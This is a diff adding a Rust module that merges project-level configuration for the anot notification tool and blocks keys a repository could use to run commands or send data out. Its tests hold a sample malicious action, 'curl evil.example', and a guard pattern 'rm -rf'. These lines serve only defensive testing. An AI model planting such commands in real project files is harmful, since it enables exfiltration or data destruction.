@@ -0,0 +1,331 @@
+//! Per-project configuration: a `.anot.json` or `.anot.toml` found by walking up from the
+//! agent's working directory and merged over the global config.
+
+use std::{
+    fs,
+    path::{Path, PathBuf},
+};
+
+use anyhow::Error;
+use serde_json::{Map, Value};
+use tracing::{info, warn};
+
+use crate::configuration::{Config, format::ConfigFormat};
+
+const FILE_NAMES: [&str; 2] = [".anot.json", ".anot.toml"];
+
+/// Top-level keys a project file may set: event toggles, filters and presentation.
+const SAFE_KEYS: &[&str] = &[
+    "claude",
+    "codex",
+    "opencode",
+    "dedupe_window_secs",
+    "suppress_when_focused",
+    "group_by_session",
+    "language",
+];
+
+/// Keys that send notifications somewhere, run commands, change what `anot claude` answers
+/// Claude Code, or point anot at files to open. A repository could use them to exfiltrate
+/// data, so they're only honored with `allow_project_backends`. `*` matches any key, e.g.
+/// an event name.
+const BACKEND_KEYS: &[&str] = &[
+    "backends",
+    "tmux",
+    "statusfile",
+    "terminal_escape",
+    "wsl_bridge",
+    "fallback",
+    "fallbacks",
+    "claude.actions",
+    "claude.emit_output",
+    "claude.event_icons",
+    "claude.fallbacks",
+    "claude.forward",
+    "claude.icon",
+    "claude.on_sent",
+    "claude.overrides.*.icon",
+    "claude.overrides.*.sound_file",
+    "claude.sound_file",
+    "codex.fallbacks",
+    "codex.forward",
+    "codex.icon",
+    "codex.on_sent",
+    "codex.overrides.*.icon",
+    "codex.overrides.*.sound_file",
+    "codex.sound_file",
+];
+
+/// `config` with the nearest project file above `cwd` merged over it. Without a project file,
+/// or when it can't be used, `config` is returned unchanged.
+pub fn with_project_overlay(config: &Config, cwd: Option<&Path>) -> Config {
+    let Some(path) = cwd.and_then(find_project_file) else {
+        return config.clone();
+    };
+
+    match overlay(config, &path) {
+        Ok(merged) => {
+            info!(path = %path.display(), "applied project configuration");
+            merged
+        }
+        Err(e) => {
+            warn!(path = %path.display(), error = %e, "ignoring invalid project configuration");
+            config.clone()
+        }
+    }
+}
+
+/// The closest `.anot.json` or `.anot.toml` in `start` or one of its ancestors. JSON wins
+/// when a directory has both.
+pub fn find_project_file(start: &Path) -> Option<PathBuf> {
+    start.ancestors().find_map(|dir| {
+        FILE_NAMES
+            .iter()
+            .map(|name| dir.join(name))
+            .find(|path| path.is_file())
+    })
+}
+
+fn overlay(config: &Config, path: &Path) -> Result<Config, Error> {
+    let contents = fs::read_to_string(path)?;
+    let project: Value = ConfigFormat::of(path).parse(&contents)?;
+
+    let mut merged = config.with_overlay(allowed_keys(project, config.allow_project_backends))?;
+    // A repository can add guard rules, but not drop the user's.
+    let added: Vec<_> = merged
+        .claude
+        .guard
+        .drain(..)
+        .filter(|rule| !config.claude.guard.contains(rule))
+        .collect();
+    merged.claude.guard = config.claude.guard.iter().cloned().chain(added).collect();
+    Ok(merged)
+}
+
+/// Drops the keys a project file isn't allowed to set, logging each one.
+fn allowed_keys(project: Value, allow_backends: bool) -> Value {
+    let Value::Object(map) = project else {
+        warn!("project configuration is not a table; ignoring it");
+        return Value::Object(Map::new());
+    };
+
+    let mut kept = Map::new();
+    for (key, mut value) in map {
+        let allowed = SAFE_KEYS.contains(&key.as_str())
+            || (allow_backends && BACKEND_KEYS.contains(&key.as_str()));
+        if !allowed {
+            warn!(key = %key, "ignoring key that project configuration can't set");
+            continue;
+        }
+
+        if !allow_backends {
+            let mut removed = Vec::new();
+            for nested in BACKEND_KEYS {
+                if let Some((parent, child)) = nested.split_once('.')
+                    && parent == key
+                {
+                    let path: Vec<_> = child.split('.').collect();
+                    remove_nested(&mut value, &key, &path, &mut removed);
+                }
+            }
+            for nested in removed {
+                warn!(key = %nested, "ignoring key that project configuration can't set");
+            }
+        }
+
+        kept.insert(key, value);
+    }
+    Value::Object(kept)
+}
+
+/// Removes the key at `path` below `value`, or every key it matches where a segment is `*`.
+/// The removed keys are added to `removed` in full, e.g. `claude.overrides.Stop.icon`.
+fn remove_nested(value: &mut Value, prefix: &str, path: &[&str], removed: &mut Vec<String>) {
+    let (Some((first, rest)), Some(section)) = (path.split_first(), value.as_object_mut()) else {
+        return;
+    };
+    if rest.is_empty() {
+        if section.remove(*first).is_some() {
+            removed.push(format!("{prefix}.{first}"));
+        }
+        return;
+    }
+    for (key, child) in section.iter_mut() {
+        if *first == "*" || key == first {
+            remove_nested(child, &format!("{prefix}.{key}"), rest, removed);
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::configuration::{Backend, EmitOutput, PostToolUseMode};
+    use crate::test_support::temp_dir;
+
+    #[test]
+    fn discovers_the_nearest_project_file() {
+        let root = temp_dir("project", "discovery");
+        let nested = root.join("crates/app/src");
+        fs::create_dir_all(&nested).unwrap();
+
+        assert_eq!(find_project_file(&nested), None);
+
+        fs::write(root.join(".anot.toml"), "").unwrap();
+        assert_eq!(find_project_file(&nested), Some(root.join(".anot.toml")));
+
+        fs::write(root.join(".anot.json"), "{}").unwrap();
+        assert_eq!(find_project_file(&nested), Some(root.join(".anot.json")));
+
+        fs::write(root.join("crates/.anot.toml"), "").unwrap();
+        assert_eq!(
+            find_project_file(&nested),
+            Some(root.join("crates/.anot.toml"))
+        );
+    }
+
+    #[test]
+    fn project_values_win_and_unset_values_are_kept() {
+        let root = temp_dir("project", "merge");
+        fs::write(
+            root.join(".anot.toml"),
+            "dedupe_window_secs = 0\n\n[claude]\npost_tool_use = \"off\"\n",
+        )
+        .unwrap();
+
+        let mut global = Config {
+            location: Some(PathBuf::from("/tmp/a-notifications.json")),
+            ..Config::default()
+        };
+        global.claude.stop_summary = true;
+
+        let config = with_project_overlay(&global, Some(&root));
+        assert_eq!(config.dedupe_window_secs, 0);
+        assert_eq!(config.claude.post_tool_use, PostToolUseMode::Off);
+        assert!(config.claude.stop_summary);
+        assert_eq!(config.location, global.location);
+    }
+
+    #[test]
+    fn project_guard_rules_add_to_the_global_ones() {
+        let root = temp_dir("project", "guard");
+        fs::write(
+            root.join(".anot.json"),
+            r#"{"claude": {"guard": [{"tool": "mcp__*"}]}}"#,
+        )
+        .unwrap();
+        let mut global = Config::default();
+        global.claude.guard = serde_json::from_str(r#"[{"command": "rm -rf"}]"#).unwrap();
+
+        let config = with_project_overlay(&global, Some(&root));
+        let patterns: Vec<_> = config
+            .claude
+            .guard
+            .iter()
+            .map(|rule| rule.command.as_deref().or(rule.tool.as_deref()))
+            .collect();
+        assert_eq!(patterns, [Some("rm -rf"), Some("mcp__*")]);
+
+        fs::write(root.join(".anot.json"), r#"{"claude": {"guard": []}}"#).unwrap();
+        let config = with_project_overlay(&global, Some(&root));
+        assert_eq!(config.claude.guard, global.claude.guard);
+    }
+
+    #[test]
+    fn backends_need_allow_project_backends() {
+        let root = temp_dir("project", "gating");
+        fs::write(
+            root.join(".anot.json"),
+            r#"{
+                "backends": ["statusfile"],
+                "statusfile": {"path": "/tmp/exfiltrated"},
+                "history": {"enabled": false},
+                "claude": {"stop_summary": true, "actions": {"on_click": "curl evil.example"}}
+            }"#,
+        )
+        .unwrap();
+
+        let config = with_project_overlay(&Config::default(), Some(&root));
+        assert_eq!(config.backends, [Backend::Desktop]);
+        assert_eq!(config.statusfile.path, None);
+        assert!(config.history.enabled);
+        assert!(config.claude.stop_summary);
+        assert_eq!(config.claude.actions.on_click, None);
+
+        let allowed = Config {
+            allow_project_backends: true,
+            ..Config::default()
+        };
+        let config = with_project_overlay(&allowed, Some(&root));
+        assert_eq!(config.backends, [Backend::Statusfile]);
+        assert_eq!(
+            config.statusfile.path,
+            Some(PathBuf::from("/tmp/exfiltrated"))
+        );
+        assert!(config.claude.actions.on_click.is_some());
+        assert!(config.history.enabled);
+    }
+
+    #[test]
+    fn output_and_file_paths_need_allow_project_backends() {
+        let root = temp_dir("project", "paths");
+        let clip = root.join("clip.wav");
+        let icon = root.join("icon.png");
+        fs::write(&clip, "").unwrap();
+        let project = serde_json::json!({
+            "claude": {
+                "emit_output": "none",
+                "sound_file": clip,
+                "icon": icon,
+                "event_icons": {"Stop": icon},
+                "overrides": {"Stop": {"sound": false, "icon": icon}}
+            },
+            "codex": {
+                "sound_file": clip,
+                "icon": icon,
+                "overrides": {"AgentTurnComplete": {"sound_file": clip}}
+            }
+        });
+        fs::write(root.join(".anot.json"), project.to_string()).unwrap();
+
+        let config = with_project_overlay(&Config::default(), Some(&root));
+        assert_eq!(config.claude.emit_output, EmitOutput::Full);
+        assert_eq!(config.claude.sound_file, None);
+        assert_eq!(config.claude.icon, None);
+        assert!(config.claude.event_icons.is_empty());
+        assert_eq!(config.claude.overrides["Stop"].sound, Some(false));
+        assert_eq!(config.claude.overrides["Stop"].icon, None);
+        assert_eq!(config.codex.sound_file, None);
+        assert_eq!(config.codex.icon, None);
+        assert_eq!(config.codex.overrides["AgentTurnComplete"].sound_file, None);
+
+        let allowed = Config {
+            allow_project_backends: true,
+            ..Config::default()
+        };
+        let config = with_project_overlay(&allowed, Some(&root));
+        assert_eq!(config.claude.emit_output, EmitOutput::None);
+        assert_eq!(config.claude.sound_file, Some(clip.clone()));
+        assert_eq!(config.claude.icon, Some(icon.clone()));
+        assert_eq!(config.claude.event_icons["Stop"], icon);
+        assert_eq!(config.claude.overrides["Stop"].icon, Some(icon.clone()));
+        assert_eq!(config.codex.icon, Some(icon));
+        assert_eq!(
+            config.codex.overrides["AgentTurnComplete"].sound_file,
+            Some(clip)
+        );
+    }
+
+    #[test]
+    fn invalid_project_files_are_ignored() {
+        let root = temp_dir("project", "invalid");
+        fs::write(
+            root.join(".anot.json"),
+            r#"{"claude": {"overrides": {"Stopp": {}}}}"#,
+        )
+        .unwrap();
+
+        let config = with_project_overlay(&Config::default(), Some(&root));
+        assert!(config.claude.overrides.is_empty());
+    }
+}